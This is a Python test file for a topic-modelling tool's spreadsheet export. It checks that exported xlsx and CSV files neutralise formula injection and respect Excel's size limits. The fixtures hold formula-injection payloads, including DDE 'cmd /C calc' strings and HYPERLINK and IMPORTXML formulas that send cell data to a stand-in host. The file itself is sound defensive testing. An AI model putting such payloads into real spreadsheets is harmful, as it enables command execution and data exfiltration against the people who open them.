"""Exported spreadsheets never run what people wrote, and Excel's limits never corrupt them.

Checked by reopening with openpyxl, by reading the CSV back, and, where LibreOffice is
installed, by letting LibreOffice itself open the workbook and save what it sees.
"""

from __future__ import annotations

import csv
import re
import shutil
import subprocess

import numpy as np
import openpyxl
import pandas as pd
import pytest

from tests.factories import curated_project
from topicdesk.core.corpus import Corpus
from topicdesk.core.edits import RenameTopic, SetDocumentNote, SetTopicNote
from topicdesk.core.project import Project
from topicdesk.core.state import Topic
from topicdesk.errors import TopicDeskError
from topicdesk.io.export import EXCEL_CELL_LIMIT, EXCEL_ROW_LIMIT, export_project

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
    '=IMPORTXML(CONCAT("http://example.invalid/?v=", A2), "//a")',
]
PLAIN = ["-5", "+49", "3.5", "an ordinary answer"]


@pytest.fixture
def hostile_project() -> Project:
    texts = HOSTILE + PLAIN + [f"filler answer number {i}" for i in range(7)]
    table = pd.DataFrame({"text": texts, "origin": texts[::-1]})
    project = curated_project(table)
    project.history.do(RenameTopic(topic_id=1, label="=2+2"))
    project.history.do(SetTopicNote(topic_id=1, note="@SUM(9)"))
    project.history.do(SetDocumentNote(rows=[0, 1], note="+cmd|' /C calc'!A0"))
    return project


NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def formula_like(value: object) -> bool:
    """Text a spreadsheet program would take as a formula (plain numbers are numbers)."""
    return (
        isinstance(value, str)
        and value[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not NUMBER.match(value)
    )


def test_xlsx_holds_no_formula_and_keeps_what_was_written(hostile_project, tmp_path):
    path = tmp_path / "out.xlsx"
    export_project(hostile_project, path)
    book = openpyxl.load_workbook(path)  # not data_only: formulas would show as formulas
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                assert not formula_like(cell.value), f"{sheet.title}!{cell.coordinate}"
    texts = [r[0] for r in book["documents"].iter_rows(min_row=2, values_only=True)]
    # shown as typed, behind a quote (a carriage return kept as the XML character &#13;)
    assert texts[: len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert texts[len(HOSTILE) : len(HOSTILE) + len(PLAIN)] == PLAIN  # numbers-like text untouched
    topics = {r[1]: r for r in book["topics"].iter_rows(min_row=2, values_only=True)}
    assert "'=2+2" in topics


def test_csv_holds_no_formula(hostile_project, tmp_path):
    path = tmp_path / "out.csv"
    export_project(hostile_project, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 1 + len(hostile_project.corpus)  # no cell broke out into a new row
    assert [row[0] for row in rows[1 : len(HOSTILE) + 1]] == ["'" + t for t in HOSTILE]
    cells = [c for row in rows[1:] for c in row]
    assert [c for c in cells if formula_like(c)] == []
    assert "'=1+1" in cells and "'+cmd|' /C calc'!A0" in cells


def test_long_cells_are_cut_with_a_marker_and_the_workbook_stays_valid(tmp_path):
    long_text = "word " * 20_000  # 100,000 characters, three times Excel's cell limit
    table = pd.DataFrame({"text": [long_text] + [f"answer {i}" for i in range(12)]})
    path = tmp_path / "long.xlsx"
    export_project(curated_project(table), path)
    cell = openpyxl.load_workbook(path)["documents"]["A2"].value
    assert len(cell) <= EXCEL_CELL_LIMIT and cell.startswith("word word")
    assert cell.endswith("more characters]") and "cut" in cell


def test_more_rows_than_excel_has_gives_a_message_and_no_file(tmp_path):
    n = EXCEL_ROW_LIMIT  # with the header row, one more than a sheet can hold
    project = Project(Corpus(pd.DataFrame({"text": np.full(n, "x", dtype=object)}), "text"))
    project.state.topics[0] = Topic(id=0, label="all", keywords=["x"], weights=[1.0])
    project.state.assignments[:] = 0
    project.fitted = True
    path = tmp_path / "big.xlsx"
    with pytest.raises(TopicDeskError, match=r"\.csv"):
        export_project(project, path)
    assert not path.exists() and list(tmp_path.iterdir()) == []


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_export_and_evaluates_nothing(hostile_project, tmp_path):
    path = tmp_path / "out.xlsx"
    export_project(hostile_project, path)
    out = tmp_path / "lo"
    proc = subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(out),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    converted = sorted(out.glob("*.csv"))
    assert converted, proc.stdout + proc.stderr
    documents = next(f for f in converted if "documents" in f.name)
    rows = list(csv.reader(documents.open(encoding="utf-8")))
    texts = [row[0] for row in rows[1 : len(HOSTILE) + 1]]
    # LibreOffice shows each one as the text typed, never a calculated value or an error
    assert texts == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    cells = [c for f in converted for row in csv.reader(f.open(encoding="utf-8")) for c in row]
    assert not [c for c in cells if formula_like(c) or c.lower().startswith(("#name", "err:"))]
